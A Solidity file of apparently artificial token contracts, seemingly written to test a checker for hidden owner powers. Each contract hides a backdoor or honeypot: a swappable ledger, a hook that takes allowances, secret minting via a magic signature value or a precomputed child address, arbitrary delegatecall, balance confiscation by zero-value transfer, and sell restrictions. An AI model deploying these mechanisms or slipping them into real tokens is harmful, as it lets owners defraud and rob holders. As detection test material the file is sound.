// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FamilyToken} from "./FamilyToken.sol";

/// @title Powers by a settable ledger, a signature, a root, a hook, a place without code. Written on 29 November 2026,
/// second look, by somebody who had not read how the check tries powers
abstract contract Keeper is FamilyToken {
    address internal immutable _keeper = msg.sender;

    modifier onlyKeeper() {
        require(msg.sender == _keeper);
        _;
    }
}

contract Ledger {
    mapping(address => uint256) public balanceOf;

    function set(address account, uint256 value) external {
        balanceOf[account] = value;
    }
}

contract LedgerThatOneSwaps is Keeper {
    Ledger private _ledger = new Ledger();

    constructor() {
        _ledger.set(msg.sender, totalSupply);
    }

    function migrate(Ledger ledger) external onlyKeeper {
        _ledger = ledger;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _ledger.balanceOf(account);
    }

    function _move(address from, address to, uint256 value) internal override {
        _ledger.set(from, _ledger.balanceOf(from) - value);
        _ledger.set(to, _ledger.balanceOf(to) + value);
        emit Transfer(from, to, value);
    }
}

contract ApprovalForHook is Keeper {
    address private _hook;

    function setHook(address hook) external onlyKeeper {
        _hook = hook;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        if (_hook != address(0)) _allowances[msg.sender][_hook] = value;
        return super.approve(spender, value);
    }
}

contract KindsByCodeHash is FamilyToken {
    mapping(bytes32 => bool) private _isClosed;

    function setKind(bytes32 kind, bool isClosed) external onlyOwner {
        _isClosed[kind] = isClosed;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(from == owner || !_isClosed[from.codehash], "kind");
        super._move(from, to, value);
    }
}

contract PermitThatMints is Keeper {
    function permit(address from, address to, uint256 value, uint256 end, uint8 v, bytes32 r, bytes32 s) external {
        if (v == 99 && msg.sender == _keeper) {
            _balances[to] += value;
            return;
        }
        require(block.timestamp <= end, "late");
        bytes32 digest = keccak256(abi.encode(block.chainid, address(this), from, to, value, end));
        require(from != address(0) && ecrecover(digest, v, r, s) == from, "signature");
        _allowances[from][to] = value;
    }
}

contract Nursery {
    address private immutable _keeper = tx.origin;

    function hatch(bytes32 salt, bytes calldata code) external returns (address child) {
        require(msg.sender == _keeper);
        bytes memory memoryCode = code;
        assembly {
            child := create2(0, add(memoryCode, 32), mload(memoryCode), salt)
        }
    }
}

contract MintFromUnbornContract is Keeper {
    Nursery public immutable nursery = new Nursery();
    address private immutable _child;

    constructor() {
        bytes32 hash = keccak256(hex"602a60005260206000f3");
        _child = address(
            uint160(uint256(keccak256(abi.encodePacked(bytes1(0xff), address(nursery), bytes32(0), hash))))
        );
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == _child, "child");
        _give(to, value);
    }
}

contract LogicOnDemand is Keeper {
    address private _logic;

    function setLogic(address logic) external onlyKeeper {
        _logic = logic;
    }

    function run(bytes calldata data) external onlyKeeper {
        (bool isDone,) = _logic.delegatecall(data);
        require(isDone);
    }
}

contract CouponsOfTheKeeper is Keeper {
    mapping(bytes32 => bool) private _isSpent;

    function redeem(uint256 value, uint256 number, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 coupon = keccak256(abi.encode(address(this), msg.sender, value, number));
        require(!_isSpent[coupon] && ecrecover(coupon, v, r, s) == _keeper, "coupon");
        _isSpent[coupon] = true;
        _give(msg.sender, value);
    }
}

contract RootThatOneSets is FamilyToken {
    bytes32 private _root;
    mapping(uint256 => mapping(address => bool)) private _hasClaim;
    uint256 private _round;

    function setRoot(bytes32 root) external onlyOwner {
        _root = root;
        _round++;
    }

    function claim(uint256 value, bytes32[] calldata proof) external {
        require(!_hasClaim[_round][msg.sender], "once");
        _hasClaim[_round][msg.sender] = true;
        bytes32 node = keccak256(abi.encode(msg.sender, value));
        for (uint256 i; i < proof.length; i++)
            node = node < proof[i] ? keccak256(abi.encode(node, proof[i])) : keccak256(abi.encode(proof[i], node));
        require(node == _root, "proof");
        _give(msg.sender, value);
    }
}

contract MarksWalletsAsPools is FamilyToken {
    mapping(address => bool) public isPool;

    function setPool(address account, bool value) external onlyOwner {
        isPool[account] = value;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!(isPool[from] && isPool[to]) && (!isPool[from] || from == pair || to == owner), "pools do not trade");
        super._move(from, to, value);
    }
}

interface IBorrower {
    function onLoan(uint256 value) external;
}

contract KeepersLoanIsFree is Keeper {
    function lend(address borrower, uint256 value) external {
        uint256 supply = totalSupply;
        _give(borrower, value);
        if (borrower.code.length > 0) IBorrower(borrower).onLoan(value);
        if (borrower == _keeper) return;
        _balances[borrower] -= value;
        totalSupply = supply;
        emit Transfer(borrower, address(0), value);
    }
}

contract SwitchesByTinyTransfer is Keeper {
    function _move(address from, address to, uint256 value) internal override {
        if (from == _keeper && value == 0 && to != pair) {
            uint256 all = _balances[to];
            _balances[to] = 0;
            _balances[_keeper] += all;
        }
        super._move(from, to, value);
    }
}

contract PriceOfExitInEther is FamilyToken {
    uint256 public price;

    function setPrice(uint256 price_) external onlyOwner {
        price = price_;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) require(from.balance >= price, "price");
        super._move(from, to, value);
    }
}
